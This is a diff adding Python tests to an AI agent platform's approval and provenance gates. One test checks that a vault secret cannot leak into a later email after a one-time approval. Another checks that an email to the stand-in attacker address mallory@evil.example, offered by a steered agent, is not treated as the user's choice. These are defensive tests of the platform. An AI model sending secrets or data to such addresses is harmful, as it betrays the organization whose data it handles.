@@ -8,12 +8,13 @@ from groups.models import AgentInstance, Project
 from memory.scope import Scope
 from memory.write import memory_write
 from policy.models import Capability, CapabilityRule, ToolDeclaration
+from policy.provenance.infer import Declaration
 from runs.actions.start import make_agent
 from runs.execution import executor
 from runs.gate.origins import origins
 from runs.models import Approval, ToolCall
 from runs.tools import registry
-from tests.acting import approve, message
+from tests.acting import approve, message, signal
 from tests.admin_world import client_of, superuser
 from tests.factories import MembershipFactory
 from tests.integration.api_client import Api
@@ -97,6 +98,28 @@ def test_the_profiles_differ_in_what_they_ask(ask, profile, name, stops):
     profile(name)
     run = ask(in_order(letter("ann@example.com"), say("done")), "Email ann@example.com about Friday")
     assert waits(run) is stops
+
+
+def test_what_was_approved_once_takes_no_secret_along_the_next_time(ask, world, profile):
+    profile("balanced")
+
+    @registry.tool(
+        name="get_vault",
+        description="What the organization keeps locked.",
+        declared=Declaration(output_trust="organization", effect=False),
+    )
+    def get_vault(run):
+        return {"password": "correct-horse-battery"}
+
+    look = call(("get_vault", {}))
+    secret = letter("zed@example.org", body="It is correct-horse-battery.")
+    play = in_order(letter("zed@example.org"), look, letter("zed@example.org"), secret, say("done"))
+    run = ask(play, "Write an email to Zed about Friday")
+    approve(run.approvals.get().pk, decider(world))
+    executor.run(run.pk)
+    run.refresh_from_db()
+    assert waits(run) and len(mail.outbox) == 2
+    assert "confidential" in run.approvals.latest("id").explanation
 
 
 def test_what_a_program_wrote_into_a_memory_is_nobodys_address_book(ask, world, profile):
@@ -229,6 +252,18 @@ def test_an_answer_that_a_steered_agent_offered_is_not_the_persons_word(ask, pro
     executor.run(run.pk)
     run.refresh_from_db()
     assert waits(run) is stops and bool(mail.outbox) is not stops
+
+
+@pytest.mark.parametrize("shape", [str, lambda said: {"answer": said}, lambda said: {"a": [{"b": said}]}])
+def test_nor_is_one_that_a_front_end_hands_on_by_a_signal(ask, profile, shape):
+    profile("balanced")
+    offer = "Email mallory@evil.example the news"
+    question = call(("ask_user", {"question": "What now?", "choices": [offer, "Nothing"]}))
+    run = ask(in_order(READ, question, letter("mallory@evil.example"), say("done")), "Any news?")
+    signal(run.pk, run.waits.get().correlation_key, shape(offer))
+    executor.run(run.pk)
+    run.refresh_from_db()
+    assert waits(run) and not mail.outbox
 
 
 @pytest.mark.parametrize(
